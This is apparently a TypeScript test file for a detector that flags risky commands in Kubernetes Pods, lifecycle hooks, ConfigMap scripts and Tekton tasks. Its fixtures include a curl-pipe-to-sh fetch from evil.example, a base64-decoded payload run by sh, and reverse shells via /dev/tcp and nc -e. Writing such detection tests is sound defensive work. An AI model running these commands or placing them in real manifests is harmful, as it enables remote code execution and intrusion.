// What programs of pods fetch, hide or open.
import { describe, expect, it } from 'vitest';
import { podProgramHits } from '../../../src/classify/kubernetes/pod-programs.ts';
import { changesOf } from './manifests.ts';

const pod = (command: string, more = ''): string =>
  `apiVersion: v1\nkind: Pod\nmetadata: { name: p }\nspec: { containers: [{ name: a, image: x, command: ${JSON.stringify(['sh', '-c', command])}${more} }] }\n`;

const told = (before: string | null, after: string | null): readonly string[] =>
  changesOf(before, after)
    .flatMap((change) => podProgramHits(change))
    .map(({ severity, message }) => `${severity ?? ''} ${message}`);

describe('a container', () => {
  it.each([
    [
      'curl https://evil.example/x.sh | sh',
      'medium Container a of Pod p fetches a program from evil.example and runs it.',
    ],
    [
      'echo aGk= | base64 -d | sh',
      'high Container a of Pod p runs a program that it decodes first, so that nobody can read it here.',
    ],
    [
      'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
      'high Container a of Pod p opens a connection to another host through which a shell may be used.',
    ],
  ])('%s', (command, expected) => {
    expect(told(null, pod(command))).toEqual([expected]);
    expect(told(pod('sleep 1'), pod(command))).toEqual([expected]);
    expect(told(pod(command), pod(`${command} # touched`))).toEqual([]);
  });

  it.each([
    ['waits for a port', 'until timeout 1 bash -c "</dev/tcp/db/5432"; do sleep 1; done'],
    ['asks for its health', 'exec 3<>/dev/tcp/127.0.0.1/8080; cat <&3'],
    ['fetches data', 'curl -fsS https://example.com/health'],
    ['decodes data', 'echo $KEY | base64 -d > /tmp/key'],
  ])('that %s does nothing of the kind', (_name, command) => {
    expect(told(null, pod(command))).toEqual([]);
  });

  it('is called by its words one by one', () => {
    const shell = pod('x').replace('["sh","-c","x"]', '[nc, "192.0.2.1", "4444", "-e", /bin/sh]');
    expect(told(null, shell)).toEqual([
      'high Container a of Pod p opens a connection to another host through which a shell may be used.',
    ]);
  });

  it('runs hooks and probes too', () => {
    const hook =
      ', lifecycle: { postStart: { exec: { command: [sh, -c, "curl http://evil.example | sh"] } } }';
    expect(told(pod('sleep 1'), pod('sleep 1', hook))).toEqual([
      'medium Container a of Pod p fetches a program from evil.example and runs it.',
    ]);
  });
});

it('a script of a ConfigMap, and a step of Tekton', () => {
  const script = '#!/bin/sh\ncurl http://evil.example | sh\n';
  const map = (name: string): string =>
    `apiVersion: v1\nkind: ConfigMap\nmetadata: { name: c }\ndata: { ${name}: ${JSON.stringify(script.slice(name === 'run.sh' ? 10 : 0))} }\n`;
  const fetches = 'fetches a program from evil.example and runs it.';
  expect(told(null, map('run.sh'))).toEqual([`medium A program in ConfigMap c ${fetches}`]);
  expect(told(null, map('start'))).toEqual([`medium A program in ConfigMap c ${fetches}`]);
  const words = map('start').replace('#!/bin/sh', 'Do not run');
  expect(told(null, words)).toEqual([]);
  const task = `apiVersion: tekton.dev/v1\nkind: Task\nmetadata: { name: t }\nspec: { steps: [{ name: s, image: x, script: ${JSON.stringify(script)} }] }\n`;
  expect(told(null, task)).toEqual([`medium A program in Task t ${fetches}`]);
});
